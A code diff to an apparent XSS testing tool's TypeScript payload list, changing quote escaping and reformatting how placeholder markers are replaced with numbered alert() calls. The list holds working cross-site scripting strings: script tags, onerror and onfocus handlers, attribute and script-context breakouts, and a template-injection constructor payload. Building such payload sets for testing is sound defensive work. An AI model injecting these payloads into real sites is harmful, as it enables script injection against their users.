@@ -22,7 +22,7 @@ const RAW: Raw[] = [
   { category: 'element', text: '<script>§</script>' },
   { category: 'element', text: '<ScRiPt>§</sCrIpT>' },
   { category: 'element', text: '<script src="data:text/javascript,§"></script>' },
-  { category: 'element', text: '<script>fetch(\'/xss-hit?id=#\')</script>' },
+  { category: 'element', text: "<script>fetch('/xss-hit?id=#')</script>" },
   { category: 'element', text: '<img src=x onerror=§>' },
   { category: 'element', text: '<img src="x" onerror="§">' },
   { category: 'element', text: '<IMG SRC=x OnErRoR=§>' },
@@ -56,9 +56,9 @@ const RAW: Raw[] = [
 
   // Attribute breakouts: text that lands inside value="…", alt, title, href or a data- attribute.
   { category: 'attribute', text: '"><img src=x onerror=§>' },
-  { category: 'attribute', text: '\'><img src=x onerror=§>' },
+  { category: 'attribute', text: "'><img src=x onerror=§>" },
   { category: 'attribute', text: '" onmouseover="§" x="' },
-  { category: 'attribute', text: '\' onfocus=\'§\' autofocus=\'' },
+  { category: 'attribute', text: "' onfocus='§' autofocus='" },
   { category: 'attribute', text: '" autofocus onfocus=§ "' },
   { category: 'attribute', text: '`><img src=x onerror=§>' },
   { category: 'attribute', text: '"/><svg onload=§>' },
@@ -155,10 +155,10 @@ const RAW: Raw[] = [
   { category: 'script-context', text: '"}]</script><img src=x onerror=§>' },
   { category: 'script-context', text: '\u2028\u2029"};§;//' },
   { category: 'script-context', text: '<!--<script>§</script>-->' },
-  { category: 'script-context', text: '\'-§-\'' },
+  { category: 'script-context', text: "'-§-'" },
   { category: 'script-context', text: '";§;//' },
   { category: 'script-context', text: '${§}' },
-  { category: 'script-context', text: '{{constructor.constructor(\'§\')()}}' },
+  { category: 'script-context', text: "{{constructor.constructor('§')()}}" },
   { category: 'css', text: '</style><img src=x onerror=§>' },
   { category: 'css', text: 'x;background:url("javascript:§")' },
 ];
@@ -173,7 +173,10 @@ export interface Payload {
 export const PAYLOADS: Payload[] = RAW.map((p, i) => ({
   id: i + 1,
   category: p.category,
-  text: p.text.replaceAll('§', `alert(${i + 1})`).replaceAll('#)', `${i + 1})`).replaceAll("id=#'", `id=${i + 1}'`),
+  text: p.text
+    .replaceAll('§', `alert(${i + 1})`)
+    .replaceAll('#)', `${i + 1})`)
+    .replaceAll("id=#'", `id=${i + 1}'`),
 }));
 
 /**
